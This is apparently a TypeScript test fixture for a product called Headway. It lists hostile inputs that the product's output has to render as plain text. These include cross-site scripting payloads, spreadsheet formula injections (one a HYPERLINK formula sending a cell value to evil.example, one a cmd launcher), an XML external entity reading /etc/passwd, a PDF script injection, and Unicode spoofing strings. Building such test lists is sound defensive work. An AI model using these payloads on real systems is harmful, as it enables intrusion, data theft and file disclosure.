/** Texts that somebody may type or a file may hold, by the families of bad input: where text leaves Headway, each has to come out as text. */
export const hostile = {
  /** F1-01 to F1-14. */
  markup: [
    '<img src=x onerror=window.__xss=1>',
    '<script>window.__xss=1</script>',
    '"><svg onload=window.__xss=1>',
    'javascript:window.__xss=1',
    '</text><script>window.__xss=1</script><text>',
    ']]><script>window.__xss=1</script>',
    "{{constructor.constructor('window.__xss=1')()}}",
    '\u0024{window.__xss=1}',
    '<a href="//evil.example/?c=" target=_blank>x</a>',
    '--></title><script>window.__xss=1</script>',
    '</script><script>window.__xss=1</script>',
    "<style>@import'//evil.example/x.css'</style>",
    '&lt;img src=x onerror=window.__xss=1&gt;',
    'x\u2028window.__xss=1\u2029',
  ],
  /** F3: what a spreadsheet would run, and a telephone number that is none of it. */
  formulas: [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1,1)',
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|'/C calc'!A0",
    '\t=1+1',
    '=IMPORTXML("http://evil.example","//a")',
    '"=1+1',
    ';=1+1',
    '＝1+1',
    '+7 495 123-45-67',
  ],
  /** F6, as far as the fonts of pictures have the letters. */
  letters: [
    'é',
    'e\u0301',
    'A\u200bB',
    '\u202egnp.exe',
    'a\u0001\u000bz',
    '中日（青岛）地方发展合作示范区 神奈川県 徳島 髙﨑 𠮷野',
    'Аоyama',
    'x'.repeat(300),
    '長い'.repeat(150),
  ],
  /** F9: what a PDF or an XML part could take for its own syntax. */
  syntax: ['\\) /JS (app.alert(1)) (', '<!ENTITY e SYSTEM "file:///etc/passwd">', '&#65;&e;'],
} as const;

/** All of them, for what takes any text. */
export const hostileTexts: readonly string[] = Object.values(hostile).flat();

/** What no font of pictures has, with the character that the answer names, and a language to ask in. */
export const undrawn = [
  ['👨‍👩‍👧‍👦', 'U+1F468', 'zh-CN'],
  ['شركة 12', 'U+0634', 'ja'],
  ['\u{13000}', 'U+13000', 'en'],
] as const;
